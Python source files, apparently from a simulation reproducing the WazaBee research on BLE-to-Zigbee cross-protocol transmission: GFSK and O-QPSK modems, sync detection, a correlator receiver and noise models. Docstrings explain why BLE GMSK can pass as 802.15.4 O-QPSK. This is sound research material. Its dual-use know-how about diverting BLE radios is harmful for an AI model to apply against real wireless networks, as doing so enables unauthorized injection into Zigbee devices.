        Correlates an NRZ template of *sync_bits* against *disc* and locks
        onto the **first** alignment whose normalised score clears
        *threshold* (refined to the local maximum within two symbols) — the
        way hardware sync detectors fire, and essential here because DSSS
        payloads can repeat the preamble pattern later in the frame.
        The correlation is performed against a mean-removed template so a
        static carrier-frequency offset does not masquerade as (or mask) a
        match; the removed mean is then used to estimate that offset.
        Above :data:`FFT_SYNC_MIN_PRODUCT` multiply-adds the correlation
        runs as an FFT product instead of in the time domain (*correlator*
        pins one implementation: ``"fft"`` / ``"direct"``).

        *power* (per-sample |x|², aligned with *disc*) enables an RSSI gate:
        candidate alignments whose windowed power falls well below the
        strongest part of the capture are rejected, so clipped noise in the
        pre-frame margin cannot trigger a false sync.  It may be given as a
        zero-argument callable, evaluated only when at least one candidate
        clears *threshold* — captures with no correlation peak never pay
        for the power profile.

        *search_start* skips the beginning of the capture — receivers use it
        to re-arm the correlator after a sync that failed to yield a frame.
        """
        template = self._template(sync_bits)
        if disc.size < template.size:
            return None
        template_centered = template - template.mean()
        norm = float(np.dot(template_centered, template_centered))
        if norm == 0.0:
            raise ValueError("sync word must not be constant")
        corr = _correlate_valid(disc, template_centered, force=correlator) / norm
        valid = corr >= threshold
        if search_start > 0:
            valid[: min(search_start, valid.size)] = False
        if not valid.any():
            return None
        power_arr = power() if callable(power) else power
        if power_arr is not None and power_arr.size >= disc.size:
            window = template.size
            cumulative = np.concatenate(
                [[0.0], np.cumsum(power_arr[: disc.size])]
            )
            windowed = (cumulative[window:] - cumulative[:-window]) / window
            windowed = windowed[: corr.size]
            gate = 0.25 * float(np.percentile(windowed, 90))
            valid &= windowed >= gate
        above = np.nonzero(valid)[0]
        if above.size == 0:
            return None
        first = int(above[0])
        window_end = min(first + 2 * self.config.samples_per_symbol, corr.size)
        best = first + int(np.argmax(corr[first:window_end]))
        score = float(corr[best])
        window = disc[best : best + template.size]
        dc_norm = float(window.mean() - template.mean())
        return SyncResult(
            start=best,
            score=score,
            dc_offset=dc_norm * self.frequency_deviation,
        )

    def _template(self, sync_bits) -> np.ndarray:
        arr = as_bit_array(sync_bits)
        sps = self.config.samples_per_symbol
        nrz = arr.astype(np.float64) * 2.0 - 1.0
        return np.repeat(nrz, sps)

    # -- decisions --------------------------------------------------------
    def soft_symbols(
        self, disc: np.ndarray, start: int, num_symbols: int, dc: float = 0.0
    ) -> np.ndarray:
        """Integrate-and-dump per-symbol soft values (positive ⇒ bit 1).

        ``dc`` is the normalised DC offset (from :class:`SyncResult`,
        ``dc_offset / frequency_deviation``) subtracted before integration.
        """
        sps = self.config.samples_per_symbol
        end = start + num_symbols * sps
        if start < 0 or end > disc.size:
            raise ValueError(
                f"requested symbols [{start}:{end}] exceed discriminator "
                f"length {disc.size}"
            )
        window = disc[start:end] - dc
        return window.reshape(num_symbols, sps).sum(axis=1)

    def decide_bits(
        self, disc: np.ndarray, start: int, num_bits: int, dc: float = 0.0
    ) -> np.ndarray:
        """Hard bit decisions for *num_bits* symbols starting at *start*."""
        soft = self.soft_symbols(disc, start, num_bits, dc=dc)
        return (soft > 0).astype(np.uint8)

    def available_bits(self, disc: np.ndarray, start: int) -> int:
        """How many whole symbols remain after *start*."""
        if start >= disc.size:
            return 0
        return (disc.size - start) // self.config.samples_per_symbol

    # -- one-shot convenience ------------------------------------------------
    def demodulate_packet(
        self,
        sig: IQSignal,
        sync_bits,
        num_payload_bits: int,
        threshold: float = 0.45,
    ) -> Optional[Tuple[np.ndarray, SyncResult]]:
        """Find *sync_bits* and decode the following *num_payload_bits*.

        Returns ``None`` when the sync word is absent or the capture is too
        short; otherwise ``(payload_bits, sync_result)``.  If fewer than
        *num_payload_bits* symbols remain after the sync word, all available
        whole symbols are returned.
        """
        disc = self.discriminate(sig)
        sync = self.find_sync(
            disc,
            sync_bits,
            threshold=threshold,
            power=lazy_capture_power(sig),
        )
        if sync is None:
            return None
        sps = self.config.samples_per_symbol
        payload_start = sync.start + as_bit_array(sync_bits).size * sps
        dc_norm = sync.dc_offset / self.frequency_deviation
        count = min(num_payload_bits, self.available_bits(disc, payload_start))
        if count <= 0:
            return None
        bits = self.decide_bits(disc, payload_start, count, dc=dc_norm)
        return bits, sync
