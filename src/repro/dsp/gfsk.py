"""(G)FSK / (G)MSK modulator and demodulator.

This is the modem inside every BLE chip model.  The modulator implements
continuous-phase 2-FSK with optional Gaussian frequency-pulse shaping:

* modulation index ``h`` — BLE allows 0.45..0.55, nominal 0.5 (which makes
  the waveform GMSK, the fact WazaBee exploits);
* BT product — BLE mandates 0.5; ``bt=None`` disables the filter and yields
  plain MSK, useful for isolating the Gaussian-approximation error in
  ablation experiments.

The demodulator is a quadrature discriminator (phase of the one-sample lag
product) followed by per-symbol integrate-and-dump, with sync-word
correlation for packet/timing acquisition and a DC-offset estimate to absorb
carrier frequency offsets.  This mirrors how low-cost BLE receivers actually
work, and — crucially for the paper — it happily demodulates any MSK-family
waveform, including 802.15.4's O-QPSK with half-sine shaping.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

import numpy as np

from repro.dsp.filters import gaussian_pulse, rectangular_pulse
from repro.dsp.signal import IQSignal
from repro.utils.bits import as_bit_array

__all__ = ["GfskConfig", "FskModulator", "FskDemodulator", "SyncResult"]


@dataclass(frozen=True)
class GfskConfig:
    """Static modem parameters.

    ``samples_per_symbol`` trades fidelity for speed; 8 keeps the Gaussian
    ISI visible while letting Table III (6400 packets) run in seconds.
    """

    samples_per_symbol: int = 8
    modulation_index: float = 0.5
    bt: Optional[float] = 0.5
    span_symbols: int = 3

    def __post_init__(self) -> None:
        if self.samples_per_symbol < 2:
            raise ValueError("samples_per_symbol must be >= 2")
        if not 0.1 <= self.modulation_index <= 2.0:
            raise ValueError("modulation_index out of sane range")
        if self.bt is not None and self.bt <= 0:
            raise ValueError("bt must be positive or None")


class FskModulator:
    """Continuous-phase FSK modulator.

    Parameters
    ----------
    config:
        Modem parameters.
    symbol_rate:
        Symbols per second (1e6 for LE 1M, 2e6 for LE 2M).
    """

    def __init__(self, config: GfskConfig, symbol_rate: float):
        if symbol_rate <= 0:
            raise ValueError("symbol_rate must be positive")
        self.config = config
        self.symbol_rate = symbol_rate
        self.sample_rate = symbol_rate * config.samples_per_symbol
        if config.bt is None:
            self._pulse = rectangular_pulse(config.samples_per_symbol)
        else:
            self._pulse = gaussian_pulse(
                config.bt, config.samples_per_symbol, config.span_symbols
            )

    @property
    def frequency_deviation(self) -> float:
        """Peak frequency deviation Δf = h / (2·Ts) in hertz."""
        return self.config.modulation_index * self.symbol_rate / 2.0

    def frequency_waveform(self, bits) -> np.ndarray:
        """Instantaneous-frequency trajectory (Hz) for a bit sequence.

        Exposed separately so figures and tests can inspect the shaped
        frequency pulse train directly.
        """
        arr = as_bit_array(bits)
        sps = self.config.samples_per_symbol
        nrz = arr.astype(np.float64) * 2.0 - 1.0
        impulses = np.zeros(arr.size * sps)
        impulses[::sps] = nrz
        shaped = np.convolve(impulses, self._pulse, mode="full")
        return shaped * self.frequency_deviation

    def modulate(self, bits, initial_phase: float = 0.0) -> IQSignal:
        """Modulate *bits* into a complex-baseband :class:`IQSignal`.

        The output includes the Gaussian filter tail, so its length slightly
        exceeds ``len(bits) * samples_per_symbol``.
        """
        freq = self.frequency_waveform(bits)
        # Phase advance per sample: 2π f Δt, accumulated.
        dphi = 2.0 * np.pi * freq / self.sample_rate
        phase = initial_phase + np.cumsum(dphi)
        samples = np.exp(1j * phase)
        return IQSignal(samples, self.sample_rate)

    def group_delay_samples(self) -> int:
        """Delay introduced by the shaping pulse (centre of the pulse)."""
        return (len(self._pulse) - 1) // 2


@dataclass
class SyncResult:
    """Outcome of a sync-word search.

    ``start`` is the discriminator-domain sample index where the sync word's
    first symbol begins; ``score`` is the normalised correlation (1.0 for a
    perfect noiseless match); ``dc_offset`` is the estimated residual
    carrier-frequency offset in hertz.
    """

    start: int
    score: float
    dc_offset: float


class FskDemodulator:
    """Quadrature-discriminator FSK demodulator with sync acquisition."""

    def __init__(self, config: GfskConfig, symbol_rate: float):
        if symbol_rate <= 0:
            raise ValueError("symbol_rate must be positive")
        self.config = config
        self.symbol_rate = symbol_rate
        self.sample_rate = symbol_rate * config.samples_per_symbol
        self.frequency_deviation = config.modulation_index * symbol_rate / 2.0

    #: Discriminator limiter: nominal modulation sits at ±1; noise-only
    #: input would otherwise swing to ±(sample_rate / 2·deviation).
    CLIP_LEVEL = 1.5

    # -- front end -------------------------------------------------------
    def discriminate(self, sig: IQSignal) -> np.ndarray:
        """Instantaneous frequency normalised to ±1 at nominal deviation.

        Output is clipped at :data:`CLIP_LEVEL`, like a hardware limiter —
        essential so that noise-only stretches of a capture cannot produce
        arbitrarily large correlation values during sync search.
        """
        if sig.sample_rate != self.sample_rate:
            raise ValueError(
                f"sample rate mismatch: signal {sig.sample_rate}, "
                f"demodulator {self.sample_rate}"
            )
        raw = sig.instantaneous_frequency() / self.frequency_deviation
        return np.clip(raw, -self.CLIP_LEVEL, self.CLIP_LEVEL)

    # -- timing acquisition -------------------------------------------------
    def find_sync(
        self,
        disc: np.ndarray,
        sync_bits,
        threshold: float = 0.45,
        power: Optional[np.ndarray] = None,
        search_start: int = 0,
    ) -> Optional[SyncResult]:
        """Search the discriminator output for a sync word.

        Correlates an NRZ template of *sync_bits* against *disc* and locks
        onto the **first** alignment whose normalised score clears
        *threshold* (refined to the local maximum within two symbols) — the
        way hardware sync detectors fire, and essential here because DSSS
        payloads can repeat the preamble pattern later in the frame.
        The correlation is performed against a mean-removed template so a
        static carrier-frequency offset does not masquerade as (or mask) a
        match; the removed mean is then used to estimate that offset.

        *power* (per-sample |x|², aligned with *disc*) enables an RSSI gate:
        candidate alignments whose windowed power falls well below the
        strongest part of the capture are rejected, so clipped noise in the
        pre-frame margin cannot trigger a false sync.

        *search_start* skips the beginning of the capture — receivers use it
        to re-arm the correlator after a sync that failed to yield a frame.
        """
        template = self._template(sync_bits)
        if disc.size < template.size:
            return None
        template_centered = template - template.mean()
        norm = float(np.dot(template_centered, template_centered))
        if norm == 0.0:
            raise ValueError("sync word must not be constant")
        corr = np.correlate(disc, template_centered, mode="valid") / norm
        valid = corr >= threshold
        if power is not None and power.size >= disc.size:
            window = template.size
            cumulative = np.concatenate([[0.0], np.cumsum(power[: disc.size])])
            windowed = (cumulative[window:] - cumulative[:-window]) / window
            windowed = windowed[: corr.size]
            gate = 0.25 * float(np.percentile(windowed, 90))
            valid &= windowed >= gate
        if search_start > 0:
            valid[: min(search_start, valid.size)] = False
        above = np.nonzero(valid)[0]
        if above.size == 0:
            return None
        first = int(above[0])
        window_end = min(first + 2 * self.config.samples_per_symbol, corr.size)
        best = first + int(np.argmax(corr[first:window_end]))
        score = float(corr[best])
        window = disc[best : best + template.size]
        dc_norm = float(window.mean() - template.mean())
        return SyncResult(
            start=best,
            score=score,
            dc_offset=dc_norm * self.frequency_deviation,
        )

    def _template(self, sync_bits) -> np.ndarray:
        arr = as_bit_array(sync_bits)
        sps = self.config.samples_per_symbol
        nrz = arr.astype(np.float64) * 2.0 - 1.0
        return np.repeat(nrz, sps)

    # -- decisions --------------------------------------------------------
    def soft_symbols(
        self, disc: np.ndarray, start: int, num_symbols: int, dc: float = 0.0
    ) -> np.ndarray:
        """Integrate-and-dump per-symbol soft values (positive ⇒ bit 1).

        ``dc`` is the normalised DC offset (from :class:`SyncResult`,
        ``dc_offset / frequency_deviation``) subtracted before integration.
        """
        sps = self.config.samples_per_symbol
        end = start + num_symbols * sps
        if start < 0 or end > disc.size:
            raise ValueError(
                f"requested symbols [{start}:{end}] exceed discriminator "
                f"length {disc.size}"
            )
        window = disc[start:end] - dc
        return window.reshape(num_symbols, sps).sum(axis=1)

    def decide_bits(
        self, disc: np.ndarray, start: int, num_bits: int, dc: float = 0.0
    ) -> np.ndarray:
        """Hard bit decisions for *num_bits* symbols starting at *start*."""
        soft = self.soft_symbols(disc, start, num_bits, dc=dc)
        return (soft > 0).astype(np.uint8)

    def available_bits(self, disc: np.ndarray, start: int) -> int:
        """How many whole symbols remain after *start*."""
        if start >= disc.size:
            return 0
        return (disc.size - start) // self.config.samples_per_symbol

    # -- one-shot convenience ------------------------------------------------
    def demodulate_packet(
        self,
        sig: IQSignal,
        sync_bits,
        num_payload_bits: int,
        threshold: float = 0.45,
    ) -> Optional[Tuple[np.ndarray, SyncResult]]:
        """Find *sync_bits* and decode the following *num_payload_bits*.

        Returns ``None`` when the sync word is absent or the capture is too
        short; otherwise ``(payload_bits, sync_result)``.  If fewer than
        *num_payload_bits* symbols remain after the sync word, all available
        whole symbols are returned.
        """
        disc = self.discriminate(sig)
        power = np.abs(sig.samples[:-1]) ** 2
        sync = self.find_sync(disc, sync_bits, threshold=threshold, power=power)
        if sync is None:
            return None
        sps = self.config.samples_per_symbol
        payload_start = sync.start + as_bit_array(sync_bits).size * sps
        dc_norm = sync.dc_offset / self.frequency_deviation
        count = min(num_payload_bits, self.available_bits(disc, payload_start))
        if count <= 0:
            return None
        bits = self.decide_bits(disc, payload_start, count, dc=dc_norm)
        return bits, sync
