"""Complex-baseband signal container.

An :class:`IQSignal` is a vector of complex samples together with the sample
rate and the RF centre frequency the samples are referenced to.  The RF
medium (:mod:`repro.radio.medium`) mixes signals between centre frequencies,
which is how a BLE emission on 2420 MHz lands — frequency-shifted — in the
passband of a Zigbee receiver tuned to the same channel.

Frequencies are plain floats in hertz; sample counts are integers.  Samples
are always ``complex128``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

__all__ = ["IQSignal"]


@dataclass
class IQSignal:
    """Complex baseband samples referenced to an RF centre frequency.

    Parameters
    ----------
    samples:
        Complex baseband sample vector.
    sample_rate:
        Samples per second.
    center_frequency:
        RF frequency (Hz) that baseband DC corresponds to.
    """

    samples: np.ndarray
    sample_rate: float
    center_frequency: float = 0.0

    def __post_init__(self) -> None:
        self.samples = np.asarray(self.samples, dtype=np.complex128)
        if self.samples.ndim != 1:
            raise ValueError("IQSignal samples must be one-dimensional")
        if self.sample_rate <= 0:
            raise ValueError("sample_rate must be positive")

    # -- basic properties ---------------------------------------------------
    def __len__(self) -> int:
        return int(self.samples.size)

    @property
    def duration(self) -> float:
        """Signal duration in seconds."""
        return self.samples.size / self.sample_rate

    def power(self) -> float:
        """Mean sample power (linear)."""
        if not self.samples.size:
            return 0.0
        return float(np.mean(np.abs(self.samples) ** 2))

    def energy(self) -> float:
        """Total sample energy (sum of |x|^2)."""
        return float(np.sum(np.abs(self.samples) ** 2))

    # -- transformations ------------------------------------------------------
    def scaled(self, gain: float) -> "IQSignal":
        """Return an amplitude-scaled copy."""
        return IQSignal(self.samples * gain, self.sample_rate, self.center_frequency)

    def delayed(self, samples: int) -> "IQSignal":
        """Return a copy with *samples* zeros prepended."""
        if samples < 0:
            raise ValueError("delay must be non-negative")
        padded = np.concatenate(
            [np.zeros(samples, dtype=np.complex128), self.samples]
        )
        return IQSignal(padded, self.sample_rate, self.center_frequency)

    def padded(self, samples: int) -> "IQSignal":
        """Return a copy with *samples* zeros appended."""
        if samples < 0:
            raise ValueError("padding must be non-negative")
        padded = np.concatenate(
            [self.samples, np.zeros(samples, dtype=np.complex128)]
        )
        return IQSignal(padded, self.sample_rate, self.center_frequency)

    def mixed_to(self, new_center: float) -> "IQSignal":
        """Re-reference the signal to a different RF centre frequency.

        A signal occupying frequency f at RF appears at baseband offset
        ``f - center``; retuning to ``new_center`` shifts every component by
        ``center - new_center``.
        """
        shift = self.center_frequency - new_center
        if shift == 0.0:
            samples = self.samples.copy()
        else:
            n = np.arange(self.samples.size)
            samples = self.samples * np.exp(
                2j * np.pi * shift * n / self.sample_rate
            )
        return IQSignal(samples, self.sample_rate, new_center)

    def sliced(self, start: int, stop: int) -> "IQSignal":
        """Return samples[start:stop] as a new signal."""
        return IQSignal(
            self.samples[start:stop], self.sample_rate, self.center_frequency
        )

    def instantaneous_phase(self) -> np.ndarray:
        """Unwrapped instantaneous phase in radians."""
        return np.unwrap(np.angle(self.samples))

    def instantaneous_frequency(self) -> np.ndarray:
        """Per-sample instantaneous frequency estimate in hertz.

        Computed from the phase of the one-sample lag product, the same
        quantity a quadrature FM discriminator measures.  Length is
        ``len(self) - 1``.
        """
        if self.samples.size < 2:
            return np.zeros(0)
        lag = self.samples[1:] * np.conj(self.samples[:-1])
        return np.angle(lag) * self.sample_rate / (2.0 * np.pi)

    # -- combination -----------------------------------------------------------
    def add(self, other: "IQSignal") -> "IQSignal":
        """Superpose another signal (must share sample rate and centre).

        The shorter signal is zero-padded at the end.
        """
        if other.sample_rate != self.sample_rate:
            raise ValueError("sample rates differ")
        if other.center_frequency != self.center_frequency:
            raise ValueError(
                "centre frequencies differ; call mixed_to() first"
            )
        n = max(self.samples.size, other.samples.size)
        out = np.zeros(n, dtype=np.complex128)
        out[: self.samples.size] += self.samples
        out[: other.samples.size] += other.samples
        return IQSignal(out, self.sample_rate, self.center_frequency)

    @staticmethod
    def silence(
        num_samples: int, sample_rate: float, center_frequency: float = 0.0
    ) -> "IQSignal":
        """An all-zeros signal."""
        return IQSignal(
            np.zeros(num_samples, dtype=np.complex128),
            sample_rate,
            center_frequency,
        )
