"""Noncoherent correlation despreader for O-QPSK — an alternative receiver.

The default 802.15.4 receiver in this project demodulates chips through the
MSK equivalence (FM discriminator + Hamming despreading), which is both how
low-IF silicon works and the mechanism WazaBee rides on.  Classic textbook
receivers instead correlate the incoming baseband against the 16 reference
*waveforms* of the spread symbols and pick the strongest magnitude —
noncoherent because the carrier phase is unknown.

This module implements that bank-of-correlators receiver.  It serves as an
ablation: both architectures accept the diverted BLE emission (the waveform
really is compatible — the attack is not an artefact of discriminator
receivers), with the correlator enjoying a small SNR advantage at the cost
of much more computation.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

import numpy as np

from repro.dsp.msk import chips_to_transitions
from repro.dsp.oqpsk import OqpskModulator
from repro.dsp.signal import IQSignal
from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES

__all__ = ["CorrelatorBank", "CorrelatorDecode"]


@dataclass
class CorrelatorDecode:
    """Outcome of a correlator-bank decode."""

    symbols: List[int]
    scores: List[float]
    start_sample: int


class CorrelatorBank:
    """Noncoherent matched-filter despreader.

    Reference waveforms are generated per (symbol, preceding chip) pair so
    the inter-symbol O-QPSK memory (the last chip's Q pulse spilling into
    the next symbol) is handled exactly.
    """

    def __init__(self, samples_per_chip: int = 8, chip_rate: float = 2e6):
        self.samples_per_chip = samples_per_chip
        self.chip_rate = chip_rate
        self.sample_rate = samples_per_chip * chip_rate
        self._modulator = OqpskModulator(samples_per_chip, chip_rate)
        self._references = self._build_references()
        self._symbol_samples = CHIPS_PER_SYMBOL * samples_per_chip

    def _build_references(self) -> np.ndarray:
        """(2, 16, N) array: previous-chip value × symbol × samples.

        Symbols always start on an even chip index in a frame (the I
        channel), so the reference prepends *two* chips — a throwaway pad
        and the actual previous chip — keeping the symbol's first chip on
        an even index and the I/Q assignment identical to the real frame.
        """
        refs = []
        spc = self.samples_per_chip
        for previous_chip in (0, 1):
            row = []
            for symbol in range(16):
                chips = np.concatenate(
                    [[0, previous_chip], PN_SEQUENCES[symbol]]
                ).astype(np.uint8)
                sig = self._modulator.modulate(chips)
                # Drop the two leading chip periods; keep one symbol.
                start = 2 * spc
                row.append(
                    sig.samples[start : start + CHIPS_PER_SYMBOL * spc]
                )
            refs.append(row)
        return np.asarray(refs)

    # -- timing -------------------------------------------------------------
    def acquire(
        self, sig: IQSignal, threshold: float = 0.6
    ) -> Optional[int]:
        """Find the start of the *first* preamble symbol by correlation.

        Correlates the ``0000`` reference waveform against the capture and
        locks onto the earliest alignment whose normalised magnitude clears
        *threshold* (refined to the local maximum within one chip) — the
        same first-in-time semantics as the discriminator receiver, for the
        same reason: DSSS payloads can repeat the preamble pattern.
        """
        if sig.sample_rate != self.sample_rate:
            raise ValueError("sample rate mismatch")
        reference = self._references[0, 0]
        n = reference.size
        samples = sig.samples
        if samples.size < 2 * n:
            return None
        raw = np.abs(np.correlate(samples, reference, mode="valid"))
        energy_ref = float(np.sum(np.abs(reference) ** 2))
        power = np.abs(samples) ** 2
        cumulative = np.concatenate([[0.0], np.cumsum(power)])
        window_energy = cumulative[n:] - cumulative[:-n]
        norms = np.sqrt(energy_ref * np.maximum(window_energy, 1e-30))
        scores = raw / norms[: raw.size]
        above = np.nonzero(scores >= threshold)[0]
        if above.size == 0:
            return None
        first = int(above[0])
        window_end = min(first + 2 * self.samples_per_chip, scores.size)
        return first + int(np.argmax(scores[first:window_end]))

    # -- decoding -----------------------------------------------------------
    def decode(
        self, sig: IQSignal, start_sample: int, max_symbols: int
    ) -> CorrelatorDecode:
        """Despread symbol-by-symbol from *start_sample*.

        Tracks the previous chip across symbols so the correct reference
        set is used each time.
        """
        samples = sig.samples
        symbols: List[int] = []
        scores: List[float] = []
        previous_chip = 0
        cursor = start_sample
        for _ in range(max_symbols):
            window = samples[cursor : cursor + self._symbol_samples]
            if window.size < self._symbol_samples:
                break
            bank = self._references[previous_chip]
            correlations = np.abs(bank @ np.conj(window))
            best = int(np.argmax(correlations))
            symbols.append(best)
            scores.append(float(correlations[best]))
            previous_chip = int(PN_SEQUENCES[best][-1])
            cursor += self._symbol_samples
        return CorrelatorDecode(
            symbols=symbols, scores=scores, start_sample=start_sample
        )
