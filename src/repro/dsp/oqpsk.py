"""O-QPSK with half-sine pulse shaping — the 802.15.4 PHY waveform.

The modulator builds the In-phase / Quadrature pulse trains exactly as
§III-C of the paper describes: even chips shape I, odd chips shape Q, each
as a half-sine of duration 2·Tc, with Q inherently offset by Tc because odd
chips start one chip period later.  The resulting complex envelope has
constant amplitude and a phase that rotates ±π/2 per chip period — i.e. an
MSK waveform.

The demodulator exploits that equivalence (as practical low-IF 802.15.4
receivers do): a quadrature discriminator recovers the per-chip rotation
bits, a correlator finds chip timing from a known chip pattern, and
:mod:`repro.dsp.msk` converts rotations back to chips.  DSSS despreading to
symbols is deliberately *not* done here — that belongs to the PHY layer
(:mod:`repro.phy.ieee802154`), which owns the PN table.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

import numpy as np

from repro.dsp.filters import half_sine_pulse
from repro.dsp.gfsk import (
    FskDemodulator,
    GfskConfig,
    SyncResult,
    lazy_capture_power,
)
from repro.dsp.msk import chips_to_transitions, transitions_to_chips
from repro.dsp.signal import IQSignal
from repro.utils.bits import as_bit_array

__all__ = ["OqpskModulator", "OqpskDemodulator", "ChipSyncResult"]


class OqpskModulator:
    """802.15.4 O-QPSK modulator with half-sine pulse shaping.

    Parameters
    ----------
    samples_per_chip:
        Oversampling factor (the symbol/figure fidelity knob).
    chip_rate:
        Chips per second; 2e6 in the 2.4 GHz ISM band.
    """

    def __init__(self, samples_per_chip: int = 8, chip_rate: float = 2e6):
        if samples_per_chip < 2:
            raise ValueError("samples_per_chip must be >= 2")
        if chip_rate <= 0:
            raise ValueError("chip_rate must be positive")
        self.samples_per_chip = samples_per_chip
        self.chip_rate = chip_rate
        self.sample_rate = chip_rate * samples_per_chip
        self._pulse = half_sine_pulse(samples_per_chip)

    def pulse_trains(self, chips) -> Tuple[np.ndarray, np.ndarray]:
        """Return the (I(t), Q(t)) pulse trains for *chips*.

        Exposed for Figure 2 (temporal waveforms) and the unit tests that
        check constant-envelope behaviour.
        """
        arr = as_bit_array(chips)
        spc = self.samples_per_chip
        pulse_len = len(self._pulse)
        nrz = arr.astype(np.float64) * 2.0 - 1.0
        length = arr.size * spc + pulse_len - 1
        i_wave = np.zeros(length)
        q_wave = np.zeros(length)
        # Same-rail chips sit 2·spc apart — exactly one pulse length — so
        # each rail is a sequence of non-overlapping pulse blocks that can
        # be written in one outer product per rail.
        even, odd = nrz[0::2], nrz[1::2]
        if even.size:
            view = i_wave[: even.size * pulse_len].reshape(even.size, pulse_len)
            np.multiply.outer(even, self._pulse, out=view)
        if odd.size:
            view = q_wave[spc : spc + odd.size * pulse_len].reshape(
                odd.size, pulse_len
            )
            np.multiply.outer(odd, self._pulse, out=view)
        return i_wave, q_wave

    def modulate(self, chips) -> IQSignal:
        """Modulate a chip sequence into a complex-baseband signal."""
        i_wave, q_wave = self.pulse_trains(chips)
        return IQSignal(i_wave + 1j * q_wave, self.sample_rate)


@dataclass
class ChipSyncResult:
    """Chip-timing acquisition outcome.

    ``chip_index`` is the absolute stream index (parity!) of the first chip
    of the matched pattern; ``sync`` carries the correlation details.
    """

    chip_index: int
    sync: SyncResult


class OqpskDemodulator:
    """MSK-domain chip demodulator for O-QPSK half-sine signals.

    Internally reuses the FSK quadrature discriminator: an O-QPSK half-sine
    waveform at chip rate Rc is an MSK signal at symbol rate Rc with
    modulation index 0.5.
    """

    def __init__(self, samples_per_chip: int = 8, chip_rate: float = 2e6):
        self.samples_per_chip = samples_per_chip
        self.chip_rate = chip_rate
        self.sample_rate = chip_rate * samples_per_chip
        config = GfskConfig(
            samples_per_symbol=samples_per_chip, modulation_index=0.5, bt=None
        )
        self._fsk = FskDemodulator(config, chip_rate)

    def front_end(self, sig: IQSignal) -> Tuple[np.ndarray, object]:
        """Run the analogue front end once: ``(disc, power)``.

        *disc* is the discriminator output and *power* a lazy,
        memoised instantaneous-power supplier.  Pass the pair to
        :meth:`receive_chips` via ``front_end=`` to reuse it across
        re-armed sync searches instead of recomputing per attempt.
        """
        return self._fsk.discriminate(sig), lazy_capture_power(sig)

    def receive_chips(
        self,
        sig: IQSignal,
        sync_chips,
        sync_start_index: int,
        max_chips: int,
        threshold: float = 0.45,
        search_start: int = 0,
        front_end: Optional[Tuple[np.ndarray, object]] = None,
    ) -> Optional[Tuple[np.ndarray, ChipSyncResult]]:
        """Acquire *sync_chips* and decode the chips that follow.

        Parameters
        ----------
        sig:
            The captured baseband signal (already tuned and filtered).
        sync_chips:
            A known chip pattern to correlate on (e.g. two preamble
            symbols' worth of the ``0000`` PN sequence).
        sync_start_index:
            The absolute stream index of ``sync_chips[0]`` within the frame
            — needed because the chip↔rotation mapping depends on parity.
        max_chips:
            Maximum number of chips to decode after the sync pattern.
        search_start:
            Discriminator sample index to resume the pattern search from
            (used to re-arm after a sync that produced no frame).
        front_end:
            A previously computed :meth:`front_end` result for *sig*;
            when given, the discriminator and power are not recomputed.

        Returns
        -------
        ``None`` if the pattern is not found; otherwise ``(chips, info)``
        where *chips* are the decoded chips following the pattern (up to
        *max_chips*, limited by the capture length).
        """
        sync_arr = as_bit_array(sync_chips)
        if sync_arr.size < 8:
            raise ValueError("sync pattern too short for reliable correlation")
        template = chips_to_transitions(sync_arr, start_index=sync_start_index)
        if front_end is None:
            front_end = self.front_end(sig)
        disc, power = front_end
        sync = self._fsk.find_sync(
            disc,
            template,
            threshold=threshold,
            power=power,
            search_start=search_start,
        )
        if sync is None:
            return None
        spc = self.samples_per_chip
        payload_start = sync.start + template.size * spc
        dc_norm = sync.dc_offset / self._fsk.frequency_deviation
        count = min(max_chips, self._fsk.available_bits(disc, payload_start))
        if count <= 0:
            return None
        transitions = self._fsk.decide_bits(disc, payload_start, count, dc=dc_norm)
        # The template covers transitions into chips
        # sync_start_index+1 .. sync_start_index+len(sync)-1; the next
        # rotation period is chip index sync_start_index + len(sync).
        first_chip_index = sync_start_index + sync_arr.size
        chips = transitions_to_chips(
            transitions,
            start_index=first_chip_index,
            previous_chip=int(sync_arr[-1]),
        )
        info = ChipSyncResult(chip_index=first_chip_index, sync=sync)
        return chips, info

    def discriminate(self, sig: IQSignal) -> np.ndarray:
        """Normalised instantaneous frequency (±1 at nominal deviation)."""
        return self._fsk.discriminate(sig)
