"""Channel impairments applied by the RF medium and chip front-ends.

Everything takes and returns :class:`~repro.dsp.signal.IQSignal` and an
explicit ``numpy.random.Generator`` — no hidden global randomness, so every
experiment (Table III in particular) is reproducible from a seed.
"""

from __future__ import annotations

import numpy as np

from repro.dsp.signal import IQSignal

__all__ = [
    "awgn",
    "apply_frequency_offset",
    "apply_phase_offset",
    "apply_timing_offset",
    "noise_floor",
]


def awgn(sig: IQSignal, snr_db: float, rng: np.random.Generator) -> IQSignal:
    """Add complex white Gaussian noise for a target SNR.

    The SNR is measured against the *current* mean signal power, so callers
    should apply path loss first.
    """
    power = sig.power()
    if power == 0.0:
        return sig
    noise_power = power / (10.0 ** (snr_db / 10.0))
    noise = _complex_noise(len(sig), noise_power, rng)
    return IQSignal(sig.samples + noise, sig.sample_rate, sig.center_frequency)


def noise_floor(
    num_samples: int,
    sample_rate: float,
    power: float,
    rng: np.random.Generator,
    center_frequency: float = 0.0,
) -> IQSignal:
    """A pure-noise capture of the given mean power (receiver thermal floor)."""
    return IQSignal(
        _complex_noise(num_samples, power, rng), sample_rate, center_frequency
    )


def _complex_noise(
    num_samples: int, power: float, rng: np.random.Generator
) -> np.ndarray:
    scale = np.sqrt(power / 2.0)
    return scale * (
        rng.standard_normal(num_samples) + 1j * rng.standard_normal(num_samples)
    )


def apply_frequency_offset(sig: IQSignal, offset_hz: float) -> IQSignal:
    """Rotate the signal by a static carrier-frequency offset."""
    if offset_hz == 0.0:
        return sig
    n = np.arange(len(sig))
    rotated = sig.samples * np.exp(2j * np.pi * offset_hz * n / sig.sample_rate)
    return IQSignal(rotated, sig.sample_rate, sig.center_frequency)


def apply_phase_offset(sig: IQSignal, phase_rad: float) -> IQSignal:
    """Apply a static carrier-phase rotation."""
    if phase_rad == 0.0:
        return sig
    return IQSignal(
        sig.samples * np.exp(1j * phase_rad), sig.sample_rate, sig.center_frequency
    )


def apply_timing_offset(sig: IQSignal, delay_samples: int) -> IQSignal:
    """Delay the signal by an integer number of samples (zero padded)."""
    return sig.delayed(delay_samples)
